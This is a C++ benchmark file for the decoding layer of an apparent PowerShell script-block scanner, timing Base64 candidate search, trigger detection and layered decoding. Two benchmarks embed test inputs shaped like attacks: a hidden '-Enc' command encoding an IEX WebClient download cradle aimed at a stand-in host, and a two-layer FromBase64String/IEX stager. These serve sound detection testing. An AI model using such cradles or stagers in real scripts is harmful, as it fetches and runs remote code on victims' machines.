// Throughput of the first decoding layer: the Base64 candidate search and the
// text trigger pass on benign script text (each SIMD path vs the scalar
// reference), Base64
// decoding, UTF-16LE conversion and a whole LayeredDecoder run.
#include <benchmark/benchmark.h>

#include <cstdint>
#include <random>
#include <string>
#include <vector>

#include "decoders/base64.h"
#include "decoders/base64_candidates.h"
#include "decoders/layered_decoder.h"
#include "decoders/text_encoding.h"
#include "decoders/text_triggers.h"

namespace sbscan::decoders {
namespace {

std::string Encode(std::string_view data) {
  static const char kA[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  auto b = [&](size_t k) { return static_cast<uint8_t>(data[k]); };
  for (; i + 3 <= data.size(); i += 3) {
    const uint32_t v = (b(i) << 16) | (b(i + 1) << 8) | b(i + 2);
    out += {kA[v >> 18], kA[(v >> 12) & 63], kA[(v >> 6) & 63], kA[v & 63]};
  }
  if (data.size() - i == 1) {
    const uint32_t v = b(i) << 16;
    out += {kA[v >> 18], kA[(v >> 12) & 63], '=', '='};
  } else if (data.size() - i == 2) {
    const uint32_t v = (b(i) << 16) | (b(i + 1) << 8);
    out += {kA[v >> 18], kA[(v >> 12) & 63], kA[(v >> 6) & 63], '='};
  }
  return out;
}

std::string Utf16(std::string_view s) {
  std::string out;
  for (char c : s) out += {c, '\0'};
  return out;
}

// ~1 MiB of ordinary PowerShell: cmdlets, parameters (-eq, -ErrorAction,
// -Force...), paths, comments, here-strings, no payload.
const std::string& BenignText() {
  static const std::string* text = [] {
    const char* lines[] = {
        "function Get-InventoryItem {\n",
        "    [CmdletBinding()]\n    param([Parameter(Mandatory)][string]$ComputerName,\n",
        "          [int]$TimeoutSeconds = 30, [switch]$Force)\n",
        "    $ErrorActionPreference = 'Stop'\n",
        "    # Query the remote registry for installed software, then filter.\n",
        "    $items = Get-ChildItem -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall' -ErrorAction SilentlyContinue\n",
        "    foreach ($item in $items) { if ($item.DisplayName -eq $null -or $item.SystemComponent -eq 1) { continue } }\n",
        "    $result = $items | Where-Object { $_.InstallDate -gt (Get-Date).AddDays(-30) } | Sort-Object -Property DisplayName\n",
        "    Write-Verbose \"Found $($result.Count) items on $ComputerName in $TimeoutSeconds s\"\n",
        "    Invoke-Command -ComputerName $ComputerName -ScriptBlock { Get-Service -Name WinRM } -ErrorAction Stop\n",
        "    $path = Join-Path -Path $env:ProgramData -ChildPath 'Contoso\\Inventory\\cache.json'\n",
        "    Set-Content -Path $path -Value ($result | ConvertTo-Json -Depth 4) -Encoding UTF8 -Force\n",
        "    if (-not (Test-Path -LiteralPath $path)) { throw \"cache file missing: $path\" }\n",
        "    return [pscustomobject]@{ Name = $ComputerName; Count = $result.Count; Expires = (Get-Date).AddHours(1) }\n",
        "}\n",
        "Export-ModuleMember -Function Get-InventoryItem, Set-InventoryCache, Remove-InventoryCache\n",
        "$url = 'https://intranet.contoso.com/api/v2/inventory/upload?site=emea-01'\n",
        "Invoke-RestMethod -Uri $url -Method Post -Body $body -ContentType 'application/json' -UseDefaultCredentials\n",
    };
    auto* s = new std::string;
    std::mt19937 rng(5);
    while (s->size() < (1u << 20)) {
      *s += lines[rng() % (sizeof(lines) / sizeof(lines[0]))];
    }
    return s;
  }();
  return *text;
}

void BM_FindCandidatesBenign(benchmark::State& state) {
  const auto path = static_cast<SimdPath>(state.range(0));
  if (!SimdPathSupported(path)) {
    state.SkipWithError("scan path not supported on this CPU");
    return;
  }
  const std::string& text = BenignText();
  std::vector<Candidate> out;
  FindBase64CandidatesWith(path, text, 32, 256, &out);
  if (!out.empty()) {
    state.SkipWithError("benign text produced candidates");
    return;
  }
  for (auto _ : state) {
    out.clear();
    FindBase64CandidatesWith(path, text, 32, 256, &out);
    benchmark::DoNotOptimize(out.data());
  }
  state.SetBytesProcessed(int64_t(state.iterations()) * int64_t(text.size()));
}
BENCHMARK(BM_FindCandidatesBenign)
    ->Arg(int(SimdPath::kScalar))
    ->Arg(int(SimdPath::kSse2))
    ->Arg(int(SimdPath::kAvx2))
    ->Arg(int(SimdPath::kAvx512))
    ->ArgName("path(0=scalar,1=sse2,2=avx2,3=avx512)");

// The trigger flags of every byte-level decoder (TextTriggersWith) on the
// same benign text: what every block pays besides the candidate search.
void BM_TextTriggersBenign(benchmark::State& state) {
  const auto path = static_cast<SimdPath>(state.range(0));
  if (!SimdPathSupported(path)) {
    state.SkipWithError("scan path not supported on this CPU");
    return;
  }
  const std::string& text = BenignText();
  const uint32_t want = TextTriggersScalar(text);
  if (TextTriggersWith(path, text) != want) {
    state.SkipWithError("flags differ from the scalar reference");
    return;
  }
  for (auto _ : state) {
    uint32_t flags = TextTriggersWith(path, text);
    benchmark::DoNotOptimize(flags);
  }
  state.counters["flags"] = static_cast<double>(want);
  state.SetBytesProcessed(int64_t(state.iterations()) * int64_t(text.size()));
}
BENCHMARK(BM_TextTriggersBenign)
    ->Arg(int(SimdPath::kScalar))
    ->Arg(int(SimdPath::kSse2))
    ->Arg(int(SimdPath::kAvx2))
    ->Arg(int(SimdPath::kAvx512))
    ->ArgName("path(0=scalar,1=sse2,2=avx2,3=avx512)");

void BM_FindCandidatesWithPayloads(benchmark::State& state) {
  const auto path = static_cast<SimdPath>(state.range(0));
  if (!SimdPathSupported(path)) {
    state.SkipWithError("scan path not supported on this CPU");
    return;
  }
  // Benign text with an -enc payload every ~16 KiB.
  std::string text;
  const std::string& benign = BenignText();
  const std::string payload =
      " powershell -NoP -W Hidden -Enc " +
      Encode(Utf16("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")) +
      "\n";
  size_t payloads = 0;
  for (size_t i = 0; i < benign.size(); i += 16384, ++payloads) {
    text += benign.substr(i, 16384);
    text += payload;
  }
  std::vector<Candidate> out;
  FindBase64CandidatesWith(path, text, 32, 1u << 20, &out);
  size_t encoded = 0;
  for (const Candidate& c : out) encoded += c.kind == CandidateKind::kEncodedCommand;
  if (encoded < payloads) {  // a cut "-Encoding" may add one
    state.SkipWithError(("unexpected candidate count " + std::to_string(encoded) + " vs " + std::to_string(payloads)).c_str());
    return;
  }
  for (auto _ : state) {
    out.clear();
    FindBase64CandidatesWith(path, text, 32, 1u << 20, &out);
    benchmark::DoNotOptimize(out.data());
  }
  state.SetBytesProcessed(int64_t(state.iterations()) * int64_t(text.size()));
}
BENCHMARK(BM_FindCandidatesWithPayloads)
    ->Arg(int(SimdPath::kScalar))
    ->Arg(int(SimdPath::kAvx2))
    ->Arg(int(SimdPath::kAvx512));

const std::string& RandomBytes() {
  static const std::string* bytes = [] {
    auto* s = new std::string(768 * 1024, '\0');
    std::mt19937 rng(3);
    for (char& c : *s) c = static_cast<char>(rng());
    return s;
  }();
  return *bytes;
}

void BM_DecodeBase64(benchmark::State& state) {
  const std::string& data = RandomBytes();
  std::string enc = Encode(data);
  if (state.range(0) == 1) {  // MIME-style line breaks every 76 characters
    std::string wrapped;
    for (size_t i = 0; i < enc.size(); i += 76) {
      wrapped += enc.substr(i, 76);
      wrapped += "\r\n";
    }
    enc = wrapped;
  }
  std::string out;
  if (DecodeBase64(enc, SIZE_MAX, &out) != Outcome::kDecoded || out != data) {
    state.SkipWithError("decode mismatch");
    return;
  }
  for (auto _ : state) {
    out.clear();
    benchmark::DoNotOptimize(DecodeBase64(enc, SIZE_MAX, &out));
  }
  state.SetBytesProcessed(int64_t(state.iterations()) * int64_t(enc.size()));
}
BENCHMARK(BM_DecodeBase64)->Arg(0)->Arg(1)->ArgName("wrapped");

void BM_Utf16leToUtf8(benchmark::State& state) {
  const std::string utf16 = Utf16(BenignText().substr(0, 256 * 1024));
  std::string out;
  for (auto _ : state) {
    out.clear();
    Utf16leToUtf8(utf16, &out);
    benchmark::DoNotOptimize(out.data());
  }
  state.SetBytesProcessed(int64_t(state.iterations()) * int64_t(utf16.size()));
}
BENCHMARK(BM_Utf16leToUtf8);

void BM_ClassifyBytesUtf16(benchmark::State& state) {
  const std::string utf16 = Utf16(BenignText().substr(0, 256 * 1024));
  if (ClassifyBytes(utf16) != TextEncoding::kUtf16le) {
    state.SkipWithError("misclassified");
    return;
  }
  for (auto _ : state) benchmark::DoNotOptimize(ClassifyBytes(utf16));
  state.SetBytesProcessed(int64_t(state.iterations()) * int64_t(utf16.size()));
}
BENCHMARK(BM_ClassifyBytesUtf16);

// A typical 4104 block: stager -enc whose text holds a FromBase64String.
void BM_LayeredDecoderBlock(benchmark::State& state) {
  const std::string inner = BenignText().substr(0, 4096);
  const std::string level1 =
      "$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" +
      Encode(inner) + "'));IEX $s";
  const std::string root =
      BenignText().substr(0, 2048) + "\npowershell.exe -NoP -sta -NonI -W Hidden -Enc " +
      Encode(Utf16(level1)) + "\n";
  LayeredDecoder dec;
  int layers = 0;
  dec.Run(root, [&](const Layer&) { ++layers; });
  if (layers != 2) {
    state.SkipWithError("expected two layers");
    return;
  }
  for (auto _ : state) {
    dec.Run(root, [&](const Layer& l) { benchmark::DoNotOptimize(l.text.data()); });
  }
  state.SetBytesProcessed(int64_t(state.iterations()) * int64_t(root.size()));
}
BENCHMARK(BM_LayeredDecoderBlock);

}  // namespace
}  // namespace sbscan::decoders
